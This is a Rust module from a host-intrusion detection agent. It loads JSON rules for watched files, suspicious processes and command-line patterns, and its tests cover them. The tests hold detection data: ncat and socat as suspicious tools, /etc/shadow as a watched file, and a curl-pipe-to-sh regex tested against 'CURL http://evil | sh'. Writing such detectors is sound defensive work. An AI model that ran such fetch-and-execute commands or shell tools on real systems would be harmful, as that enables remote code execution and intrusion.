//! JSON rule file - watched files, suspicious names, and cmdline patterns.

use crate::alert::AlertSender;
use regex::{Regex, RegexBuilder};
use serde::Deserialize;
use std::collections::HashSet;
use std::path::{Path, PathBuf};
use tracing::{info, warn};

/// On-disk shape of the rule file. Every key is optional.
#[derive(Debug, Default, Deserialize)]
struct RuleFile {
    #[serde(default)]
    watched_files: Vec<String>,
    #[serde(default)]
    suspicious_processes: Vec<String>,
    #[serde(default)]
    suspicious_parents: Vec<String>,
    #[serde(default)]
    cmdline_keywords: Vec<String>,
    #[serde(default)]
    regex: Vec<String>,
}

/// Compiled rules. Loaded once at startup, immutable afterwards.
#[derive(Debug, Default)]
pub struct RuleSet {
    watched_files: Vec<PathBuf>,
    suspicious_processes: HashSet<String>,
    suspicious_parents: HashSet<String>,
    cmdline_keywords: Vec<String>,
    patterns: Vec<Regex>,
}

impl RuleSet {
    /// Load rules from `path`. A missing or malformed file yields the empty
    /// rule set and exactly one ERROR alert; the agent keeps running.
    pub async fn load(path: &Path, alerts: &AlertSender) -> Self {
        let raw = match std::fs::read_to_string(path) {
            Ok(content) => match serde_json::from_str::<RuleFile>(&content) {
                Ok(raw) => raw,
                Err(e) => {
                    warn!(path = %path.display(), "Malformed rule file: {}", e);
                    alerts
                        .error(format!("Failed to parse rule file {}: {}", path.display(), e))
                        .await;
                    return Self::default();
                }
            },
            Err(e) => {
                warn!(path = %path.display(), "Cannot read rule file: {}", e);
                alerts
                    .error(format!("Failed to read rule file {}: {}", path.display(), e))
                    .await;
                return Self::default();
            }
        };

        let mut patterns = Vec::with_capacity(raw.regex.len());
        for pattern in &raw.regex {
            match RegexBuilder::new(pattern).case_insensitive(true).build() {
                Ok(re) => patterns.push(re),
                Err(e) => {
                    warn!(pattern = %pattern, "Skipping invalid regex rule: {}", e);
                    alerts
                        .error(format!("Invalid regex rule '{}': {}", pattern, e))
                        .await;
                }
            }
        }

        let rules = Self {
            watched_files: raw.watched_files.iter().map(PathBuf::from).collect(),
            suspicious_processes: lower_set(&raw.suspicious_processes),
            suspicious_parents: lower_set(&raw.suspicious_parents),
            cmdline_keywords: raw.cmdline_keywords.iter().map(|k| k.to_lowercase()).collect(),
            patterns,
        };

        info!(
            watched_files = rules.watched_files.len(),
            suspicious_processes = rules.suspicious_processes.len(),
            cmdline_keywords = rules.cmdline_keywords.len(),
            regex = rules.patterns.len(),
            "Rules loaded from {}", path.display()
        );

        rules
    }

    pub fn watched_files(&self) -> &[PathBuf] {
        &self.watched_files
    }

    pub fn is_suspicious_process(&self, name: &str) -> bool {
        self.suspicious_processes.contains(&name.to_lowercase())
    }

    pub fn is_suspicious_parent(&self, name: &str) -> bool {
        self.suspicious_parents.contains(&name.to_lowercase())
    }

    /// First matching keyword, if any. Case-insensitive substring match.
    pub fn matches_cmdline_keyword(&self, cmdline: &str) -> Option<&str> {
        let cmdline_lower = cmdline.to_lowercase();
        self.cmdline_keywords
            .iter()
            .find(|k| cmdline_lower.contains(k.as_str()))
            .map(|k| k.as_str())
    }

    /// First matching regex rule, if any.
    pub fn matches_regex(&self, cmdline: &str) -> Option<&str> {
        self.patterns
            .iter()
            .find(|re| re.is_match(cmdline))
            .map(|re| re.as_str())
    }

    pub fn is_empty(&self) -> bool {
        self.watched_files.is_empty()
            && self.suspicious_processes.is_empty()
            && self.suspicious_parents.is_empty()
            && self.cmdline_keywords.is_empty()
            && self.patterns.is_empty()
    }
}

fn lower_set(items: &[String]) -> HashSet<String> {
    items.iter().map(|s| s.to_lowercase()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::sync::mpsc;

    fn test_alerts() -> (AlertSender, mpsc::Receiver<crate::alert::Alert>) {
        let (tx, rx) = mpsc::channel(100);
        (AlertSender::new(tx), rx)
    }

    fn write_rules(dir: &tempfile::TempDir, content: &str) -> PathBuf {
        let path = dir.path().join("rules.json");
        std::fs::write(&path, content).unwrap();
        path
    }

    #[tokio::test]
    async fn test_load_full_rule_file() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = write_rules(
            &dir,
            r#"{
                "watched_files": ["/etc/passwd", "/etc/shadow"],
                "suspicious_processes": ["NCat", "socat"],
                "suspicious_parents": ["cron"],
                "cmdline_keywords": ["Base64 -d"],
                "regex": ["curl.+\\|\\s*sh"]
            }"#,
        );
        let (alerts, mut rx) = test_alerts();
        let rules = RuleSet::load(&path, &alerts).await;

        assert_eq!(rules.watched_files().len(), 2);
        assert!(rules.is_suspicious_process("ncat"));
        assert!(rules.is_suspicious_process("NCAT"));
        assert!(!rules.is_suspicious_process("nginx"));
        assert!(rules.is_suspicious_parent("cron"));
        assert!(rules.matches_cmdline_keyword("echo x | base64 -d").is_some());
        assert!(rules.matches_cmdline_keyword("ls -la").is_none());
        assert!(rules.matches_regex("CURL http://evil | sh").is_some());
        assert!(rx.try_recv().is_err(), "clean load should emit no alerts");
    }

    #[tokio::test]
    async fn test_load_missing_file() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = dir.path().join("nope.json");
        let (alerts, mut rx) = test_alerts();
        let rules = RuleSet::load(&path, &alerts).await;

        assert!(rules.is_empty());
        let alert = rx.try_recv().unwrap();
        assert_eq!(alert.severity, crate::alert::Severity::Error);
        assert!(rx.try_recv().is_err(), "exactly one alert for a missing file");
    }

    #[tokio::test]
    async fn test_load_malformed_json() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = write_rules(&dir, "{not json");
        let (alerts, mut rx) = test_alerts();
        let rules = RuleSet::load(&path, &alerts).await;

        assert!(rules.is_empty());
        assert!(rules.matches_cmdline_keyword("anything").is_none());
        assert!(rules.matches_regex("anything").is_none());
        let alert = rx.try_recv().unwrap();
        assert_eq!(alert.severity, crate::alert::Severity::Error);
        assert!(rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn test_bad_regex_skipped_others_survive() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = write_rules(
            &dir,
            r#"{"regex": ["[unclosed", "wget\\s+http"]}"#,
        );
        let (alerts, mut rx) = test_alerts();
        let rules = RuleSet::load(&path, &alerts).await;

        assert!(rules.matches_regex("wget http://x").is_some());
        let alert = rx.try_recv().unwrap();
        assert_eq!(alert.severity, crate::alert::Severity::Error);
        assert!(rx.try_recv().is_err(), "one alert per bad pattern");
    }

    #[tokio::test]
    async fn test_missing_keys_default_empty() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = write_rules(&dir, r#"{"watched_files": ["/etc/hosts"]}"#);
        let (alerts, _rx) = test_alerts();
        let rules = RuleSet::load(&path, &alerts).await;

        assert_eq!(rules.watched_files().len(), 1);
        assert!(!rules.is_suspicious_process("anything"));
        assert!(rules.matches_regex("anything").is_none());
    }
}
